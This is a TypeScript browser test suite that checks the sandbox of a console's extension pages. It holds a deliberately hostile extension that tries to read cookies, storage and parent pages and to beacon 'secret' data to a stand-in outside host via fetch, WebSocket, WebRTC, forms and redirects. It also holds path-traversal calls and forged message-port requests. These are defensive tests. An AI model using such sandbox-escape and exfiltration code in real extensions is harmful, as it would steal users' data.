import { writeFileSync } from 'node:fs'
import { createServer, type AddressInfo } from 'node:net'
import { join } from 'node:path'
import t from 'tap'
import { withChromium } from '../../support/browser/browser.js'
import {
  barriersOf,
  CONSOLE_GROUPS,
  endJourney,
  goTo,
  fullBrowser,
  ownerBrowser,
  ownerTab,
} from '../../support/browser/console.js'
import { spread } from '../../support/lists.js'
import { approvePending, daemonWithBackends, listedUntil, writeExtension } from '../extensions/support.js'

const HOST = `
export const activate = host => {
  const line = (name, text) => {
    const item = document.createElement('p')
    item.id = name
    item.textContent = text
    document.body.append(item)
  }
  const tell = (name, work) =>
    work().then(
      value => line(name, 'did ' + JSON.stringify(value)),
      error => line(name, error.message),
    )
`

t.test('pages of extensions in the console', withChromium(), async t => {
  const daemon = await daemonWithBackends(t, [...CONSOLE_GROUPS, 'git', 'workspace'])
  const browser = await fullBrowser(t)
  const running = async (name: string) => {
    await approvePending(daemon, `eve.${name}`)
    await listedUntil(daemon, ({ extensions }) => extensions.find(each => each.id === `eve.${name}` && each.pageCalls))
  }
  const add = async (name: string, page: string, manifest: object = {}, files: { [path: string]: string } = {}) => {
    writeExtension(
      daemon,
      name,
      {
        ...{ publisher: 'eve', name, entry: 'page.js' },
        contributes: { views: [{ id: 'main', label: 'Main', surface: 'rail', badge: true }] },
        ...manifest,
      },
      { 'page.js': page, ...files },
    )
    await listedUntil(daemon, ({ pending }) => pending.find(each => each.id === `eve.${name}`))
    await running(name)
  }

  await t.test('a page shows, asks its backend, makes the calls it declared and no other', async t => {
    await add(
      'good',
      `${HOST}
  line('surface', host.surface.view + ' ' + host.theme)
  tell('own', () => host.fetch('/hello'))
  tell('sent', () => host.fetch('/hello', { body: { name: 'Ada' } }))
  tell('out', () => host.fetch('/../../agents'))
  tell('encoded', () => host.fetch('/%2e%2e/eve.other/hello'))
  tell('declared', async () => (await host.call('GET /agents')).agents.length)
  tell('undeclared', () => host.call('GET /settings'))
  tell('closed', () => host.call('GET /system/sessions'))
  tell('other', () => host.call('GET /workspace/file', { path: '../x' }))
  host.on('command', command => line('command', command))
  host.badge(3)
}`,
      {
        server: 'server.js',
        permissions: { sandbox: ['GET /agents', 'GET /system/**', 'serve:viewer:POST /hello'] },
        contributes: {
          views: [{ id: 'main', label: 'Main', surface: 'rail', badge: true }],
          commands: [
            { command: 'good.greet', title: 'Greet everybody', keybinding: 'alt+g' },
            { command: 'good.wave', title: 'Wave to everybody' },
          ],
        },
      },
      {
        'server.js': `export const activate = host => {
  host.routes.handle('GET /hello', {}, () => ({ body: { text: 'hello' } }))
  host.routes.handle('POST /hello', {}, ({ body }) => ({ body: { text: 'hello ' + body.name } }))
}`,
      },
    )
    const tab = await ownerTab(browser, daemon, '#/x/eve.good/main')
    const { page } = tab
    const frame = page.frameLocator('iframe')
    await frame.locator('#own').waitFor()
    for (const [name, says] of [
      ['surface', 'main light'],
      ['own', 'did {"text":"hello"}'],
      ['sent', 'did {"text":"hello Ada"}'],
      ['out', /^expected a path of the extension's own/],
      ['encoded', /^expected a path of the extension's own/],
      ['declared', 'did 0'],
      ['undeclared', /^the manifest allows no call GET \/settings/],
      ['closed', /^the manifest allows no call GET \/system\/sessions/],
      ['other', /^the manifest allows no call/],
    ] as const)
      t.match(await frame.locator(`#${name}`).textContent(), says, name)
    await page.getByRole('link', { name: 'Main good 3' }).waitFor()
    await page.keyboard.press('Alt+g')
    t.equal(await frame.locator('#command').textContent(), 'good.greet')
    await page.evaluate('location.hash = "#/fleet"')
    await page.keyboard.press('Control+k')
    await page.getByRole('dialog').getByRole('combobox').fill('wave to every')
    await page.getByRole('option', { name: 'Wave to everybody' }).waitFor()
    await page.keyboard.press('Enter')
    t.equal(await frame.locator('#command').textContent(), 'good.wave', 'the palette opens its page')
    t.same(await barriersOf(page), [])
    await page.evaluate('location.hash = "#/fleet"')
    await listedUntil(daemon, ({ extensions }) =>
      extensions.some(({ id, usage }) => id === 'eve.good' && (usage['GET /agents']?.calls ?? 0) >= 1),
    )
    await endJourney(t, tab)
  })

  let connections = 0
  const server = createServer(socket => {
    connections += 1
    socket.destroy()
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  t.teardown(() => server.close())
  const outside = `127.0.0.1:${(server.address() as AddressInfo).port}`

  await t.test('a page reaches neither the console, nor storage, nor any server', async t => {
    await add(
      'hostile',
      `${HOST}
  const quick = work => Promise.race([work(), new Promise((_, no) => setTimeout(no, 3000, new Error('nothing came')))])
  const image = src =>
    new Promise((onload, no) =>
      Object.assign(new Image(), { onload, onerror: () => no(new Error('refused')), src }))
  tell('origin', async () => self.origin)
  tell('parent', async () => parent.document.title)
  tell('storage', async () => localStorage.length)
  tell('cookies', async () => document.cookie)
  tell('database', async () => indexedDB.open('x'))
  tell('own-request', () => fetch('/agents').then(({ status }) => status))
  tell('foreign-request', () => fetch('http://OUTSIDE/').then(({ status }) => status))
  tell('beacon', async () => navigator.sendBeacon('http://OUTSIDE/', 'secret'))
  tell('socket', () => quick(() => new Promise((onopen, no) =>
    Object.assign(new WebSocket('ws://OUTSIDE/'), { onopen, onerror: () => no(new Error('refused')) }))))
  tell('image', () => image('http://OUTSIDE/x.png'))
  tell('own-image', () => image(new URL('/console/icon.svg', 'DAEMON').href))
  tell('evaluated', async () => eval('1 + 1'))
  tell('inline', async () => {
    const script = document.createElement('script')
    script.textContent = 'self.inlined = true'
    document.body.append(script)
    return self.inlined ?? 'not run'
  })
  tell('popup', async () => open('http://OUTSIDE/') === null ? 'none' : 'opened')
  tell('top', async () => { top.location = 'http://OUTSIDE/'; return 'moved' })
  tell('peer', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUTSIDE' }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription()
  })
  tell('nested', async () => {
    const nested = document.createElement('iframe')
    document.body.append(nested)
    return typeof nested.contentWindow.RTCPeerConnection
  })
  tell('linked', async () => {
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'stylesheet', 'manifest', 'icon']) {
      const link = Object.assign(document.createElement('link'), { rel, href: 'http://OUTSIDE/x', as: 'style' })
      document.head.append(link)
    }
  })
  tell('form', async () => {
    const form = document.createElement('form')
    form.action = 'http://OUTSIDE/'
    document.body.append(form)
    form.submit()
  })
}`
        .replaceAll('DAEMON', daemon.url)
        .replaceAll('OUTSIDE', outside),
    )
    const tab = await ownerTab(browser, daemon, '#/x/eve.hostile/main')
    const frame = tab.page.frameLocator('iframe')
    await frame.locator('#socket').waitFor()
    await frame.locator('#form').waitFor()
    const said = async (name: string) => (await frame.locator(`#${name}`).textContent())!
    t.equal(await said('origin'), 'did "null"')
    for (const name of [
      'parent',
      'storage',
      'cookies',
      'database',
      'own-request',
      'foreign-request',
      'socket',
      'peer',
      'nested',
    ])
      t.notMatch(await said(name), /^did/, `${name}: ${await said(name)}`)
    for (const name of ['image', 'own-image', 'evaluated']) t.notMatch(await said(name), /^did/, name)
    t.match(await said('inline'), 'did "not run"')
    t.match(await said('popup'), 'did "none"')
    t.notMatch(await said('top'), /^did/)
    t.equal(tab.page.url().startsWith(daemon.url), true, 'the console is where it was')
    t.equal(connections, 0, 'nothing connected to a server outside')
    t.equal(await tab.page.getByRole('heading', { level: 1 }).textContent(), 'Main – hostile')
  })

  const stops: readonly (readonly [name: string, code: string, says: RegExp])[] = [
    [
      'floods',
      'for (;;) { for (let i = 0; i < 200; i++) host.badge(i); await new Promise(r => setTimeout(r)) }',
      /500 messages/,
    ],
    ['spins', "document.body.append('up'); setTimeout(() => { for (;;); }, 100)", /did not respond for 10 s/],
    ['leaves', "location.href = '/console/frame.html?gone'; await new Promise(() => {})", /left its page/],
    ['throws', "throw new Error('broken on purpose')", /broken on purpose/],
    ['bytes', 'PORT.postMessage(new Uint8Array(9))', /no text of at most 8 MiB/],
    ['large', "PORT.postMessage('x'.repeat(9 * 1024 * 1024))", /no text of at most 8 MiB/],
    ['garbles', "PORT.postMessage('{')", /cannot be read/],
  ]
  for (const [name, code, says] of spread(stops, 3))
    await t.test(`a page that ${name} is stopped, and the console goes on`, async t => {
      // A program in the frame can take the port from its prototype.
      const taken = `const taken = MessagePort.prototype.postMessage
let PORT
MessagePort.prototype.postMessage = function (...all) { PORT ??= this; return taken.apply(this, all) }
export const activate = async host => { host.badge(1); ${code} }`
      await add(name, taken)
      // The frames of a tab share a process, which a page that spins keeps until nothing uses it.
      const { page } = await (name === 'spins' ? ownerBrowser : ownerTab)(browser, daemon, `#/x/eve.${name}/main`)
      const begun = Date.now()
      let slowest = 0
      const notice = page.getByRole('alert').filter({ hasText: says })
      while (!(await notice.isVisible())) {
        const asked = Date.now()
        await page.evaluate('1')
        slowest = Math.max(slowest, Date.now() - asked)
        if (Date.now() - begun > 40_000) throw new Error('it was not stopped')
        await new Promise(resolve => setTimeout(resolve, 50))
      }
      t.ok(slowest < 5_000, `the page answered within ${slowest} ms throughout`)
      t.equal(await page.locator('iframe').count(), 0)
      t.same(await barriersOf(page), [])
      await page.getByRole('link', { name: 'Fleet' }).click()
      await page.getByRole('heading', { name: 'Fleet' }).waitFor()
      if (name === 'spins') await page.context().close()
    })

  await t.test('a page whose frame does not load within 10 s is stopped too', async t => {
    await add('waits', `${HOST}\n}`)
    const tab = await ownerTab(browser, daemon)
    await tab.page.route('**/console/frame.html', () => {})
    await goTo(tab.page, '#/x/eve.waits/main')
    await tab.page.getByRole('alert').filter({ hasText: 'did not respond for 10 s' }).waitFor()
    t.equal(await tab.page.locator('iframe').count(), 0)
    await endJourney(t, tab)
  })

  await t.test('a page that lies about numbers and names gets its own answers and nothing else', async t => {
    await add(
      'lies',
      `const taken = MessagePort.prototype.postMessage
let port
MessagePort.prototype.postMessage = function (...all) { port ??= this; return taken.apply(this, all) }
${HOST}
  host.badge(1)
  const send = message => taken.call(port, JSON.stringify(message))
  const seen = []
  port.addEventListener('message', ({ data }) => seen.push(data.kind + (data.ask ?? '')))
  send({ kind: 'answer', ask: 1, value: 'forged' })
  send({ kind: 'call', ask: 'x', entry: 'GET /agents' })
  send({ kind: 'call', ask: 900, entry: { toString: 'GET /agents' } })
  send({ kind: 'call', ask: 901, entry: '__proto__', input: { __proto__: 1 } })
  send({ kind: 'fetch', ask: 902, path: '//example.org/', request: { method: 'TRACE' } })
  send({ kind: 'read', ask: 903, from: 0, to: 1e12 })
  send({ kind: 'resize', height: 1e308 })
  send({ kind: 'open', place: 'https://example.org/' })
  send({ kind: 'unknown' })
  for (let i = 0; i < 40; i++) send({ kind: 'call', ask: 1000 + i, entry: 'GET /agents' })
  setTimeout(() => line('seen', seen.filter(one => one !== 'ping').sort().join(' ')), 2000)
}`,
      { permissions: { sandbox: ['GET /agents'] } },
    )
    const { page } = await ownerTab(browser, daemon, '#/x/eve.lies/main')
    const seen = (await page.frameLocator('iframe').locator('#seen').textContent())!.split(' ')
    for (const ask of [900, 901, 902, 903]) t.ok(seen.includes(`refused${ask}`), `${ask} is refused`)
    t.equal(seen.filter(one => /^answer10/.test(one)).length, 20, 'twenty at once, the others are refused')
    t.equal(seen.filter(one => /^refused10/.test(one)).length, 20)
    t.equal(seen.length, 44)
    t.match(page.url(), /#\/x\/eve\.lies\/main$/)
  })

  await t.test('files are drawn by viewers, and panels show beside what is open', async t => {
    writeFileSync(join(daemon.workspace, 'table.csv'), 'a,b\n1,2\n')
    writeFileSync(join(daemon.workspace, 'table.bin'), Buffer.from([0, 255, 7]))
    writeFileSync(join(daemon.workspace, 'table.big'), 'x'.repeat(40 * 1024 * 1024))
    const beside = ['conversation', 'run', 'file', 'changes'] as const
    await add(
      'draws',
      `${HOST}
  const { file, ...surface } = host.surface
  line('surface', JSON.stringify(surface))
  if (file) line('file', file.path + ' ' + file.size + ' ' + (file.text ?? file.bytes))
  if (file) tell('part', async () => [...(await host.read(file.size - 2, file.size - 1))])
  host.resize(300)
}`,
      {
        contributes: {
          viewers: [
            { id: 'table', extensions: ['csv'], fetch: 'text' },
            { id: 'bytes', extensions: ['bin'], fetch: 'blob' },
            { id: 'parts', extensions: ['big', 'bin'], fetch: 'url' },
          ],
          views: [{ id: 'notes', label: 'Repository notes', surface: 'directory' }],
          sideViews: [
            ...beside.map(place => ({ id: place, label: `Beside a ${place}`, beside: place })),
            { id: 'never', label: 'Never', beside: 'conversation', when: "role == 'viewer' || status in [nothing]" },
          ],
        },
      },
    )
    const { client } = daemon
    const first = { conversationId: 'first', isolated: true }
    await client.call('POST /agent', { ...first, prompt: 'write changed.txt one\nwait 600000' })
    // A browser of its own: Chromium tells what frames of the same process printed before once more.
    const tab = await ownerBrowser(browser, daemon, '#/files/open/table.csv')
    const { page } = tab
    const frame = page.frameLocator('iframe')
    const says = (name: string) => frame.locator(`#${name}`).textContent()
    await page.getByRole('link', { name: 'Draw by draws' }).click()
    t.equal(await says('file'), 'table.csv 8 a,b\n1,2\n')
    t.equal(await says('part'), 'did [50]')
    for (const [place, file, part] of [
      ['bytes/table.bin', 'table.bin 3 0,255,7', 'did [255]'],
      ['parts/table.bin', 'table.bin 3 undefined', 'did [255]'],
      ['parts/table.big', `table.big ${40 * 1024 * 1024} undefined`, 'did [120]'],
    ] as const) {
      await goTo(page, `#/x/eve.draws/file/${place}`)
      await page.getByRole('heading', { name: place.split('/')[1] }).waitFor()
      t.equal(await says('file'), file)
      t.equal(await says('part'), part)
    }

    const panel = async (place: string, name: string) => {
      await goTo(page, place)
      await page.locator('summary', { hasText: name }).click()
      const shown = JSON.parse((await says('surface'))!) as object
      await page.locator('summary', { hasText: name }).click()
      return shown
    }
    const { run } = (await client.call('GET /agents')).agents[0]!
    t.same(await panel('#/c/first', 'Beside a conversation'), { view: 'conversation', conversation: 'first' })
    t.equal(await page.locator('summary', { hasText: 'Never' }).count(), 0)
    t.same(await panel('#/c/first', 'Beside a run'), { view: 'run', conversation: 'first', run })
    t.same(await panel('#/files/open/table.csv', 'Beside a file'), { view: 'file', path: 'table.csv' })
    t.match(await panel('#/c/first/changes', 'Beside a changes'), { view: 'changes', conversation: 'first' })
    await goTo(page, '#/git/root')
    await page.getByRole('link', { name: 'Repository notes' }).click()
    t.same(JSON.parse((await says('surface'))!), { view: 'notes', repo: 'root' })
    await client.call('POST /agent/stop', { conversationId: 'first' })
    await endJourney(t, tab)
  })
})
